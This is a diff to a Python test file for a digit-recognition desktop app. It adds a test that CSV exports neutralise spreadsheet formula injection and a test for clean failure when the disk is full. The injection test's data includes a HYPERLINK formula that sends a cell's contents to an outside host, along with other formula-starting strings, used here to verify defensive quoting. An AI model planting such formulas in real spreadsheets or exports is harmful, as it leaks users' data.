@@ -1,7 +1,8 @@
-"""Images and listings from outside (issue 15, items 6, 8, 9 and 11) and the CLI's pipes and folders."""
+"""Images and listings from outside, and the CLI's pipes and folders."""
 
 from __future__ import annotations
 
+import csv
 import os
 import subprocess
 import sys
@@ -10,6 +11,7 @@ import threading
 import numpy as np
 import pytest
 from digit_strokes import DIGITS, render_strokes
+from filesystems import small_disk
 from PIL import Image
 
 from lenet_desktop.cli import main
@@ -175,3 +177,50 @@ def test_an_image_in_memory_is_read_as_a_file_is(tmp_path):
     )
     with pytest.raises(ImageError, match="^pasted image: not an image this app can read$"):
         image_from_bytes(b"hello", "pasted image")
+
+
+# Cells a spreadsheet would run as formulas (OWASP's CSV injection starts), and one already quoted.
+FORMULAS = ('=HYPERLINK("http://example.com/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1)", "\tTAB", "\rCR", "'=quoted")
+
+
+def test_an_export_holds_no_formula_and_imports_back_as_it_was(tmp_path):
+    """A model name or an imported field such as =HYPERLINK(...) was exported as it was, a live
+    formula once the CSV opened in a spreadsheet."""
+    with CorrectionStore(tmp_path / "a.db") as source:
+        for digit, text in enumerate(FORMULAS):
+            source.add(
+                render_strokes(DIGITS[digit][0]), digit, digit, 0.5, text, text[::-1], created=f"{text}2026-01-01"
+            )
+        source.export(tmp_path / "export")
+        before = [(c.label, c.predicted, c.confidence, c.model_name, c.model_version, c.created) for c in source.all()]
+    with open(tmp_path / "export" / EXPORT_CSV, newline="", encoding="utf-8") as file:
+        cells = [cell for row in csv.reader(file) for cell in row]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert f"'{FORMULAS[0]}" in cells and f"'{FORMULAS[-1]}" in cells
+    with CorrectionStore(tmp_path / "b.db") as target:
+        assert target.import_folder(tmp_path / "export").refused == []
+        after = [(c.label, c.predicted, c.confidence, c.model_name, c.model_version, c.created) for c in target.all()]
+    assert after == before
+
+
+def test_an_export_onto_a_full_disk_leaves_nothing_names_the_folder_and_keeps_the_earlier_export(tmp_path):
+    """It said only "No space left on device", and left hundreds of drawings and a listing cut mid-row."""
+    noise = np.random.default_rng(0).integers(0, 256, (280, 280), dtype=np.uint8)  # a PNG that does not shrink
+    with small_disk(tmp_path / "disk", size="256k") as disk:
+        with CorrectionStore(tmp_path / "earlier.db") as earlier:
+            earlier.add(render_strokes(DIGITS[3][0]), 3)
+            earlier.export(disk / "earlier")
+        kept = {p.name: p.read_bytes() for p in (disk / "earlier").iterdir()}
+        (disk / "empty").mkdir()
+        with CorrectionStore(tmp_path / "c.db") as store:
+            for digit in range(10):
+                store.add(np.roll(noise, digit), digit, frame=np.zeros((32, 32), np.float32))
+            for target in (disk / "new" / "export", disk / "empty"):
+                with pytest.raises(StoreError) as error:
+                    store.export(target)
+                message = str(error.value)
+                assert message.startswith(f"{target}: not exported (No space left on device)"), message
+                assert "\n" not in message
+        assert sorted(p.name for p in disk.iterdir()) == ["earlier", "empty"]
+        assert list((disk / "empty").iterdir()) == []
+        assert {p.name: p.read_bytes() for p in (disk / "earlier").iterdir()} == kept
